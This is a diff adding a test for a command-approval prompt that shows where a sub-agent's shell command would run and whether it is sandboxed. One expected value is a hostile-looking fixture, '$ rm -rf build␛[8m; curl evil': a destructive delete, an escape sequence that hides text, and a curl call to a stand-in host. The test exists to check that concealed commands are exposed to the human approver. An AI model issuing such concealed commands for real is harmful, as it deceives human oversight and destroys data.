@@ -76,6 +76,23 @@ describe('approval', () => {
     ]);
   });
 
+  it.each([
+    ['bwrap', 'in a sandbox, in /home/me/project'],
+    ['none', 'not sandboxed, in /home/me/project'],
+    [undefined, 'in /home/me/project'],
+  ] as const)('says where the kernel would do it, and that %s holds it [WHO-6]', (sandbox, where) => {
+    const own = { ...shell, on_kernel: true, ...(sandbox && { sandbox }) };
+    const shown = (request: ApprovalRequest, width: number) =>
+      text(approvalLines(request, openApproval(0), { width, rows: 12 }));
+    expect(shown(own, 80).slice(0, 2)).toEqual([
+      "── Sub-agent Scout asks to run a command on the kernel's machine",
+      where,
+    ]);
+    expect(shown({ ...own, workdir: null }, 40)[1]).toBe(
+      sandbox ? where.slice(0, where.indexOf(',')) : '$ rm -rf build␛[8m; curl evil',
+    );
+  });
+
   it('shows all that a shell would run: the content of escape sequences, other line ends, unseen characters', () => {
     const shown = (command: string) =>
       text(approvalLines({ ...shell, params: { command } }, openApproval(0), { width: 60, rows: 14 }));
